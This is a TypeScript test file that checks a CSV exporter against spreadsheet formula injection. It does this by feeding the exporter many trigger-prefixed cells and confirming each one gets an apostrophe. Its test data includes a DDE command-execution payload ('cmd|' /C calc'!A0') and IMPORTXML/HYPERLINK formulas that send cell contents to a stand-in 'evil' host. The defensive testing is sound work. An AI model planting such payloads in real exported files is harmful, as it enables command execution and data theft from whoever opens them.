import { parse } from 'csv-parse/sync'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvLine } from '../../../worker/desk/inbox/csv.ts'

const TRIGGERS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  '⁼',
  '₊',
  '\u2212',
  '|',
  '%',
]
const BEFORE = [
  '',
  ' ',
  '  ',
  '"',
  "'",
  '""',
  '	',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\xA0',
  '　',
  '​',
  '﻿',
  '‮',
  '',
  '\u2028',
  '\x1B',
  '`',
  ' "',
  '​​ ',
  '­',
]
const AFTER = [
  "cmd|' /C calc'!A0",
  '1+1',
  'HYPERLINK("http://evil","x")',
  'SUM(1,2)',
  '',
  '2',
  '\n=1',
  ';=1',
  'IMPORTXML(CONCAT("http://evil?",A1),"//a")',
  '","=1',
  '"\r\n"=1',
  'DDE("cmd")',
]
const HARMLESS = [
  '',
  'Hello',
  'a=b',
  '1-2',
  "it's",
  "'quoted'",
  '5',
  'a@b.c',
  'x\ny=2',
  '„so“',
  'a; b',
]
const ENDS = [';', '\t', '\r', '\n', '\r\n', ';;', '"; "', '; ', ';\n']

const BEHIND_END = /(?<=[;\t\r\n])/
const FORMULA = /^[\s\p{C}"'`]*[=+\-@\u2212|%]/u

/** What was sent, once the apostrophes that mark text are taken away. */
const unmarked = (cell: string) => {
  const [first = '', ...rest] = cell.split(BEHIND_END)
  const bare = rest.map((part) =>
    part.startsWith("'") && FORMULA.test(part.slice(1).normalize('NFKC')) ? part.slice(1) : part,
  )
  const without = [first.slice(1), ...bare].join('')
  return first.startsWith("'") && csvCell(without) === quoted(cell)
    ? without
    : [first, ...bare].join('')
}
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`

const read = (text: string) => parse(text, { relax_column_count: false, record_delimiter: '\r\n' })
const firstOf = (cells: readonly string[]) =>
  read(cells.map((cell) => csvLine([cell])).join('')).map(([shown = '']) => shown)
/** What begins a cell for somebody: the cell itself, and whatever stands behind the end of another. */
const beginnings = (shown: string) => shown.split(BEHIND_END).map((part) => part.normalize('NFKC'))

describe('T8: a cell of the export', () => {
  const cells = BEFORE.flatMap((before) =>
    TRIGGERS.flatMap((trigger) => AFTER.map((after) => before + trigger + after)),
  )

  it('never begins with a formula, whatever stands before it', () => {
    const shown = firstOf(cells)
    expect(shown.filter((one) => !one.startsWith("'"))).toEqual([])
    expect(shown.map(unmarked)).toEqual(cells)
    const shifting = ['\tx', '\rx', '\nx', '\0x']
    expect(firstOf(shifting)).toEqual(shifting.map((cell) => `'${cell}`))
  })

  it('has none where another cell would begin, in any country and wherever it is pasted', () => {
    const inside = ENDS.flatMap((end) => cells.map((cell) => `x${end}${cell}`))
    const shown = firstOf(inside)
    const formulas = shown.flatMap(beginnings).filter((part) => /^[ \xA0]*"*[=+\-@]/.test(part))
    expect(formulas).toEqual([])
    expect(shown.map(unmarked)).toEqual(inside)
    expect(firstOf([`x;=cmd|' /C calc'!A0;`, 'a\t=1+1', 'a\n- b'])).toEqual([
      `x;'=cmd|' /C calc'!A0;`,
      `a\t'=1+1`,
      `a\n'- b`,
    ])
  })

  it('is what was sent where it is no formula', () => {
    expect(firstOf(HARMLESS)).toEqual(HARMLESS)
  })

  it('comes back as it was, in its own column and record, whatever stands beside it', () => {
    const any = fc.oneof(fc.constantFrom(...cells), fc.string({ unit: 'binary' }), fc.string())
    const record = fc.tuple(any, any, any)
    fc.assert(
      fc.property(fc.array(record, { minLength: 1, maxLength: 5 }), (table) => {
        const parsed = read(table.map(csvLine).join(''))
        expect(parsed.map((row) => row.map(unmarked))).toEqual(table)
        expect(parsed.flat().filter((cell) => FORMULA.test(cell) && !cell.startsWith("'"))).toEqual(
          [],
        )
      }),
    )
  })
})
